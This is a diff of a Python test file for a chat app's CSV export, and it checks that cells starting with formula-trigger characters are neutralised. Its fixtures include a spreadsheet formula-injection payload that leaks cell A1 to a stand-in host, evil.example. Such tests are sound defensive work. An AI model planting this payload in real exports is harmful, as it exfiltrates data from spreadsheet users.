@@ -3,11 +3,15 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+from pathlib import Path
 
 import pytest
 
 from chat.exchange.outgoing.cells import line
 
+TWIN = json.loads((Path(__file__).parents[2] / 'twins' / 'cells.json').read_text(encoding='utf-8'))
+"""The browser's CSV keeps the same rule (tests/js/blocks.test.mjs)."""
 FORMULA = 'HYPERLINK("http://evil.example?"&A1)'
 
 
@@ -15,8 +19,7 @@ def cells(text: str) -> list[str]:
     return next(csv.reader(io.StringIO(text, newline='')))
 
 
-@pytest.mark.parametrize('sign', [
-    *'=+-@', *'＝＋－＠', '\t', '\r', '\n', '\n=', ' =', '\u00a0=', '\u3000＝', '\ufeff=', '\u200b+', '\x0b@', ' \t-'])
+@pytest.mark.parametrize('sign', TWIN['signs'])
 def test_a_text_is_never_a_formula(sign: str) -> None:
     text = sign + FORMULA
     got = cells(line(['a', text, 'b']))
@@ -24,7 +27,7 @@ def test_a_text_is_never_a_formula(sign: str) -> None:
     assert got[1] == f"'{text}" or got[1].startswith("'") and got[1].endswith(FORMULA)
 
 
-@pytest.mark.parametrize('text', ['', 'a=b', '1+1', 'x@y', "'=1", '(-1)', 'Ünder', '– no minus', '"=1"'])
+@pytest.mark.parametrize('text', TWIN['texts'])
 def test_other_texts_stay_as_they_are(text: str) -> None:
     assert cells(line([text])) == [text]
 
@@ -33,7 +36,7 @@ def test_numbers_are_no_texts() -> None:
     assert cells(line([-1.5, 3, True, None])) == ['-1.5', '3', 'yes', '']
 
 
-@pytest.mark.parametrize('sign', [';', '\t', '|', ','])
+@pytest.mark.parametrize('sign', TWIN['cuts'])
 def test_a_cell_stays_one_cell_wherever_a_spreadsheet_cuts(sign: str) -> None:
     text = f'total{sign}=HYPERLINK("https://evil.example")'
     written = line(['a', text, 1.5, None])
